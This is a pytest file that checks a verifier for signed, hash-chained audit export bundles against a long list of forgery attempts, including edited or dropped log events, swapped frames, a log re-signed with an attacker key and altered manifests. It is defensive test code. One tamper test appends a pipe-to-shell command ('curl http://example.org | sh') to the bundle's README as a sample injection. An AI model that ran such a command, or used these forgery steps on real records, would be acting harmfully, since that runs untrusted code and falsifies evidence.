"""What a forger may try, and what the verifier says about it: each attack fails, with the reason."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from domain import notes
from domain.log_format import checkpoint_text
from projections.exports.select import Scope
from projections.exports.verify import VerifyReport, layout, verify
from tests.projections.exports.forging import Event, Forger
from tests.projections.exports.made import KEY, TASK_1, Made, export, make

Attack = Callable[[Forger], object]
ACTED = "action.executed"


def refused(report: VerifyReport, pattern: str) -> bool:
    """The bundle fails, and says so in these words."""
    assert not report.ok
    assert [one for one in report.problems if re.search(pattern, one.what)], "\n".join(report.lines())
    return True


def first(events: list[Event], name: str) -> int:
    return next(index for index, one in enumerate(events) if one.name == name)


def edit_event(forger: Forger) -> None:
    events = forger.events()
    one = events[first(events, "task.opened")]
    one.body = one.body.replace(b'"amount_minor":12000', b'"amount_minor":12001')
    forger.put(events)


def edit_event_and_its_hash(forger: Forger) -> None:
    events = forger.events()
    one = events[first(events, "task.opened")]
    one.body = one.body.replace(b'"amount_minor":12000', b'"amount_minor":12001')
    one.entry["body_sha256"] = hashlib.sha256(one.body).hexdigest()
    forger.put(events)


def edit_and_chain_again(forger: Forger) -> None:
    edit_event(forger)
    forger.chain_again(forger.events())


def edit_and_rewrite_the_log(forger: Forger) -> None:
    edit_and_chain_again(forger)
    forger.log_again()


def edit_time(forger: Forger) -> None:
    events = forger.events()
    events[first(events, ACTED)].entry["recorded_at_us"] -= 86_400_000_000
    forger.put(events)


def drop_tail(forger: Forger) -> None:
    events = forger.events()
    last = max(index for index, one in enumerate(events) if one.entry["stream"] == "task:task-1")
    forger.put(events[:last] + events[last + 1 :])


def drop_middle(forger: Forger) -> None:
    events = forger.events()
    del events[first(events, ACTED)]
    forger.put(events)


def drop_middle_and_chain_again(forger: Forger) -> None:
    events = forger.events()
    at = first(events, "readback.confirmed")
    stream = events[at].entry["stream"]
    del events[at]
    for number, one in enumerate((one for one in events if one.entry["stream"] == stream), start=1):
        one.entry["version"] = number
        one.body = re.sub(rb'"version":\d+', b'"version":%d' % number, one.body)
    forger.chain_again(events)


def drop_bytes_only(forger: Forger) -> None:
    bodies = forger.files[layout.EVENTS].splitlines(keepends=True)
    forger.files[layout.EVENTS] = b"".join(bodies[:3] + bodies[4:])


def hide_task(forger: Forger) -> None:
    forger.put([one for one in forger.events() if one.entry["stream"] != "task:task-2"])


def hide_task_and_its_stream(forger: Forger) -> None:
    hide_task(forger)
    head = forger.json(layout.HEAD)
    del head["streams"]["task:task-2"]
    forger.put_json(layout.HEAD, head)


def swap_events(forger: Forger) -> None:
    events = forger.events()
    a, b = first(events, "task.opened"), first(events, ACTED)
    events[a].body, events[b].body = events[b].body, events[a].body
    forger.put(events)


def repeat_event(forger: Forger) -> None:
    events = forger.events()
    forger.put([*events[:4], events[3], *events[4:]])


def move_event(forger: Forger) -> None:
    events = forger.events()
    own = {one.entry["position"] for one in events}
    free = next(at for at in range(1, forger.head().size) if at not in own)
    one = events[-1]
    one.entry["position"] = free
    forger.put(sorted(events, key=lambda item: int(item.entry["position"])))


def swap_frames(forger: Forger) -> None:
    a, b = [path for path in forger.frames() if path.endswith(".png")][:2]
    forger.files[a], forger.files[b] = forger.files[b], forger.files[a]


def change_frame(forger: Forger) -> None:
    path = forger.frames()[0]
    data = bytearray(forger.files[path])
    data[len(data) // 2] ^= 1
    forger.files[path] = bytes(data)


def drop_frame(forger: Forger) -> None:
    del forger.files[forger.frames()[0]]


def add_frame(forger: Forger) -> None:
    data = forger.files[forger.frames()[0]] + b"\x00"
    forger.files[f"data/frames/{hashlib.sha256(data).hexdigest()}.png"] = data


def rename_frame(forger: Forger) -> None:
    path = next(path for path in forger.frames() if path.endswith(".png"))
    forger.files[path.replace(".png", ".webp")] = forger.files.pop(path)


def change_settlement(forger: Forger) -> None:
    path = next(path for path in forger.files if layout.SETTLEMENT.fullmatch(path))
    forger.files[path] = forger.files[path].replace(b"120.00", b"120.01", 1)


def drop_settlement(forger: Forger) -> None:
    del forger.files[next(path for path in forger.files if layout.SETTLEMENT.fullmatch(path))]


def add_settlement(forger: Forger) -> None:
    forger.files["data/settlement/" + "0" * 64 + "-other.csv"] = b"x"


def add_document(forger: Forger) -> None:
    forger.files["data/documents/" + "0" * 64 + ".dat"] = b"x"


def change_root(forger: Forger) -> None:
    forger.put_json(layout.HEAD, forger.json(layout.HEAD) | {"root": "0" * 64})


def shorten_log(forger: Forger) -> None:
    forger.files[layout.SKELETON] = forger.files[layout.SKELETON][:-53]


def tear_log(forger: Forger) -> None:
    forger.files[layout.SKELETON] = forger.files[layout.SKELETON][:-1]


def miscount(forger: Forger) -> None:
    head = forger.json(layout.HEAD)
    head["streams"]["task:task-1"] -= 1
    forger.put_json(layout.HEAD, head)


def later_format(forger: Forger) -> None:
    forger.put_json(layout.HEAD, forger.json(layout.HEAD) | {"format": 2})


def rest_on_a_hidden_event(forger: Forger) -> None:
    findings = forger.json(layout.FINDINGS)
    findings["case"]["findings"][0]["decisive"][0]["event_id"] = "019a0000-0000-7000-8000-000000000fff"
    forger.put_json(layout.FINDINGS, findings)


def claim_the_whole_log(forger: Forger) -> None:
    findings = forger.json(layout.FINDINGS)
    findings["scope"] = {"kind": "log", "name": ""}
    forger.put_json(layout.FINDINGS, findings)


def claim_another_bill(forger: Forger) -> None:
    forger.put_json(layout.FINDINGS, {"case": None, "scope": {"kind": "bill", "name": "B9"}})


def change_page(forger: Forger) -> None:
    forger.files["data/page/app.js"] += b"fetch('http://example.org')\n"


def change_readme(forger: Forger) -> None:
    forger.files[layout.README] += b"Run: curl http://example.org | sh\n"


def withhold_nothing(forger: Forger) -> None:
    forger.put_json(layout.WITHHELD, {"events": {}, "frames": {}})


def withhold_without_a_reason(forger: Forger) -> None:
    forger.put_json(layout.WITHHELD, {"events": {"x": {}}, "frames": {}})


def withhold_what_is_shown(forger: Forger) -> None:
    name = forger.frames()[0].partition("frames/")[2][:64]
    forger.put_json(
        layout.WITHHELD,
        {
            "events": {},
            "frames": {
                name: {
                    "approver": "y",
                    "at_us": 1,
                    "basis": "b",
                    "by": "x",
                    "regions": [],
                    "rendition": name,
                    "stream": "redaction:r",
                }
            },
        },
    )


def spoil_pretty(forger: Forger) -> None:
    forger.files[layout.FINDINGS] = json.dumps(forger.json(layout.FINDINGS), indent=1).encode()


EVENT = r"event 019a0000-0000-7000-8000-[0-9a-f]{12}"
ATTACKS: dict[Attack, str] = {
    edit_event: EVENT + r" \(task\.opened, position 2\) has been changed",
    edit_event_and_its_hash: EVENT + r" \(task\.opened, position 2\) is not the recorded one",
    edit_and_chain_again: EVENT + r" \(task\.opened, position 2\) is not what the log holds at position 2",
    edit_and_rewrite_the_log: r"the checkpoint is for \d+ events and root [0-9a-f]{64}, not for this log",
    edit_time: EVENT + r" \(action\.executed, position \d+\) is not the recorded one",
    drop_tail: r"event 11 of stream task:task-1 \(position 12\) is left out",
    drop_middle: r"event 8 of stream task:task-1 \(position 9\) is left out",
    drop_middle_and_chain_again: r"event 9 of stream task:task-1 \(position 10\) is left out",
    drop_bytes_only: EVENT + r" \(position 4\) is left out: its bytes are missing",
    hide_task: r"event 1 of stream task:task-2 \(position 13\) is left out",
    hide_task_and_its_stream: r"findings\.json rests on 'stream task:task-2', which is left out",
    swap_events: EVENT + r" \(position \d+\) is left out: its bytes are missing",
    repeat_event: EVENT + r" \(position 4\) does not come after the event before it",
    move_event: EVENT + r" \(settlement\.imported, position \d+\) is not at position \d+ of this log",
    swap_frames: r"screen [0-9a-f]{64}, named by event .*, has been changed",
    change_frame: r"screen [0-9a-f]{64}, named by event .*, has been changed: its bytes have SHA-256",
    drop_frame: r"screen [0-9a-f]{64}, named by event .*, is missing",
    add_frame: r"screen [0-9a-f]{64} is named by no event",
    rename_frame: r"screen [0-9a-f]{64} is not the kind of image",
    change_settlement: r"data/settlement/.* is not the file that was imported",
    drop_settlement: r"data/settlement/.*, named by an event, is missing",
    add_settlement: r"data/settlement/0{64}-other\.csv is named by no event",
    add_document: r"data/documents/0{64}\.dat is named by no event",
    change_root: r"skeleton\.bin has \d+ leaves and root [0-9a-f]{64}, proof/head\.json says otherwise",
    shorten_log: r"stands beyond the log's \d+ entries|proof/head\.json says otherwise",
    tear_log: r"not a whole number of 53-byte leaves",
    miscount: r"stream task:task-1 has 11 events in the log, proof/head\.json says 10",
    later_format: r"format 2; this verifier knows 1",
    rest_on_a_hidden_event: r"rests on 'event 019a0000-0000-7000-8000-000000000fff', which is left out",
    claim_the_whole_log: r"claims to show the whole log and leaves out \d+ events",
    claim_another_bill: r"no task or case about bill 'B9' is in the bundle",
    change_page: r"data/page/app\.js is not the one of any release",
    change_readme: r"README-VERIFY\.txt is not the one of any release",
    withhold_nothing: r"withheld\.json does not say",
    withhold_without_a_reason: r"withheld\.json does not say for each part where it was withheld, on which basis",
    withhold_what_is_shown: r"is said to be withheld and is there",
    spoil_pretty: r"data/findings\.json is not JSON in its one form",
}


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_a_forgery_that_covers_its_tracks_fails_with_the_reason(
    attack: Attack, forger: Forger, tmp_path: Path
) -> None:
    attack(forger)
    report = verify(forger.cover().write(tmp_path / "forged.zip"), trusted_keys=[KEY])
    assert refused(report, ATTACKS[attack])


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_a_forgery_without_new_manifests_is_told_by_them_too(
    attack: Attack, forger: Forger, tmp_path: Path
) -> None:
    attack(forger)
    report = verify(forger.write(tmp_path / "forged.zip"))
    assert refused(report, r"manifest-sha256\.txt")


def test_an_honest_bundle_that_is_listed_again_is_the_same_file(
    forger: Forger, bundle: Path, tmp_path: Path
) -> None:
    """The forger makes no mistake of his own: what he changes nothing in is byte for byte the original."""
    assert forger.cover().write(tmp_path / "same.zip").read_bytes() == bundle.read_bytes()


def test_the_seal_does_not_fit_another_conclusion(forger: Forger, tmp_path: Path) -> None:
    findings = forger.json(layout.FINDINGS)
    findings["case"]["findings"][0]["responsible"] = ["person:somebody.else"]
    forger.put_json(layout.FINDINGS, findings)
    report = verify(forger.cover().write(tmp_path / "forged.zip"), trusted_keys=[KEY])
    assert refused(report, r"proof/bundle\.note signs another bundle")


def test_without_its_seal_another_conclusion_is_not_proved(forger: Forger, tmp_path: Path) -> None:
    findings = forger.json(layout.FINDINGS)
    findings["case"]["findings"][0]["responsible"] = ["person:somebody.else"]
    forger.put_json(layout.FINDINGS, findings)
    del forger.files[layout.SEAL]
    report = verify(forger.cover().write(tmp_path / "forged.zip"), trusted_keys=[KEY])
    assert {check.name: check.status for check in report.checks}["seal"] == "not_proved"


def test_a_rewritten_log_without_a_signature_is_authentic_for_nobody(plain: Path, tmp_path: Path) -> None:
    forger = Forger(plain)
    edit_and_rewrite_the_log(forger)
    forged = forger.cover().write(tmp_path / "forged.zip")
    report = verify(forged)
    assert report.ok
    assert report.proved["authenticity"] == "not_proved"
    assert refused(
        verify(forged, expect_root=verify(plain).root), r"the log's root is .*, not the one you brought"
    )


def test_a_rewritten_log_that_is_signed_again_contradicts_a_checkpoint_one_has(
    made: Made, forger: Forger, tmp_path: Path
) -> None:
    edit_and_rewrite_the_log(forger)
    head = forger.head()
    text = checkpoint_text("desk.example/acme", head.size, bytes.fromhex(head.root))
    mallory = Ed25519PrivateKey.generate()
    note = notes.sign_note(text, "desk.example/acme", mallory)
    text, signatures = notes.split_note(note)
    key = notes.verifier_key("desk.example/acme", mallory.public_key())
    forger.files[layout.CHECKPOINT] = note.encode()
    forger.files[layout.CHECKPOINT_BODY] = text.encode()
    forger.files[layout.CHECKPOINT_SIGNATURE] = signatures[0].data
    forger.files[layout.KEYS] = f"{key}\n".encode()
    forger.files[layout.KEY_PEM] = layout.key_pem(key.public)
    del forger.files[layout.SEAL]
    forged = forger.cover().write(tmp_path / "forged.zip")
    assert verify(forged).ok
    assert refused(verify(forged, trusted_keys=[KEY]), r"none of these keys is trusted")
    report = verify(forged, known_checkpoints=[made.checkpoint(20)])
    assert refused(
        report, r"the checkpoint you know at 20 events is not this log's past: it has been rewritten"
    )


def test_an_older_checkpoint_is_not_for_this_log(made: Made, forger: Forger, tmp_path: Path) -> None:
    note = made.checkpoint(20)
    text, signatures = notes.split_note(note)
    forger.files[layout.CHECKPOINT] = note.encode()
    forger.files[layout.CHECKPOINT_BODY] = text.encode()
    forger.files[layout.CHECKPOINT_SIGNATURE] = signatures[0].data
    report = verify(forger.cover().write(tmp_path / "forged.zip"), trusted_keys=[KEY])
    assert refused(report, r"the checkpoint \(an older one\) is for 20 events")


def test_a_log_rolled_back_to_a_genuine_past_is_told_by_a_later_checkpoint(
    made: Made, tmp_path: Path
) -> None:
    past = make(others=0)
    past.book.events = made.book.events[:20]
    export(past, tmp_path / "past.zip")
    assert verify(tmp_path / "past.zip").ok
    report = verify(tmp_path / "past.zip", known_checkpoints=[made.checkpoint()])
    assert refused(
        report, r"this log has 20 events and you know a checkpoint of \d+: it has been rolled back"
    )


def test_the_proof_of_another_tenant_proves_nothing(forger: Forger, tmp_path: Path) -> None:
    other = make(others=5)
    export(other, tmp_path / "other.zip")
    stranger = Forger(tmp_path / "other.zip")
    size = forger.head().size
    assert stranger.head().size > size
    events = forger.events()
    for one in events:
        one.body = one.body.replace(b'"tenant":"acme"', b'"tenant":"globex"')
    forger.chain_again(events)
    forger.put_json(layout.HEAD, forger.json(layout.HEAD) | {"tenant": "globex"})
    report = verify(forger.cover().write(tmp_path / "forged.zip"))
    assert refused(report, r"is not at position \d+ of this log: another stream's leaf is there")


def test_another_log_s_skeleton_does_not_hold_these_events(forger: Forger, tmp_path: Path) -> None:
    other = make(others=5)
    leaves = other.leaves(other.book.tenant)
    forger.files[layout.SKELETON] = leaves[53:]
    assert refused(
        verify(forger.cover().write(tmp_path / "forged.zip")), r"is not at position \d+ of this log"
    )


def test_a_task_hidden_with_all_its_traces_is_missed_by_who_knows_it(made: Made, tmp_path: Path) -> None:
    export(made, tmp_path / "one.zip", scope=Scope("task", TASK_1))
    assert verify(tmp_path / "one.zip").ok
    report = verify(tmp_path / "one.zip", expect_streams=["task:task-1", "task:task-2"])
    assert refused(report, r"stream task:task-2, which you asked for, is not in the bundle")


@pytest.mark.parametrize(
    ("path", "change", "pattern"),
    [
        (
            layout.MANIFEST,
            lambda data: data.replace(b"events.jsonl", b"nothing.json"),
            r"which is not in the bundle",
        ),
        (layout.MANIFEST, lambda data: data[65 + 12 :], r"manifest-sha256\.txt"),
        (
            layout.MANIFEST,
            lambda data: b"0" * 64 + data[64:],
            r"has been changed: manifest-sha256\.txt has another",
        ),
        (layout.MANIFEST, lambda data: data + b"\n", r"not in its one form|lists ''"),
        (layout.TAG_MANIFEST, lambda _: b"", r"is not listed in tagmanifest-sha256\.txt"),
        (layout.BAGIT, lambda _: b"BagIt-Version: 0.97\n", r"bagit\.txt is not that of BagIt 1\.0"),
        (layout.BAG_INFO, lambda data: data + b"Contact-Name: x\n", r"bag-info\.txt does not follow"),
    ],
)
def test_a_manifest_that_lists_what_it_likes_is_not_believed(
    path: str, change: Callable[[bytes], bytes], pattern: str, forger: Forger, tmp_path: Path
) -> None:
    forger.files[path] = change(forger.files[path])
    if path in {layout.BAGIT, layout.BAG_INFO}:
        forger.list_again()
    assert refused(verify(forger.write(tmp_path / "forged.zip")), pattern)


def test_a_folder_of_another_name_is_told(forger: Forger, tmp_path: Path) -> None:
    forger.base = "proofreel-0000000000000000"
    assert refused(
        verify(forger.write(tmp_path / "forged.zip")),
        r"the folder is named proofreel-0+, the record makes it",
    )


@pytest.mark.parametrize("path", sorted(layout.REQUIRED))
def test_a_missing_file_is_named(path: str, forger: Forger, tmp_path: Path) -> None:
    del forger.files[path]
    if path not in {layout.MANIFEST, layout.TAG_MANIFEST}:
        forger.list_again()
    assert refused(
        verify(forger.write(tmp_path / "forged.zip")), re.escape(f"{path} is missing from the bundle")
    )
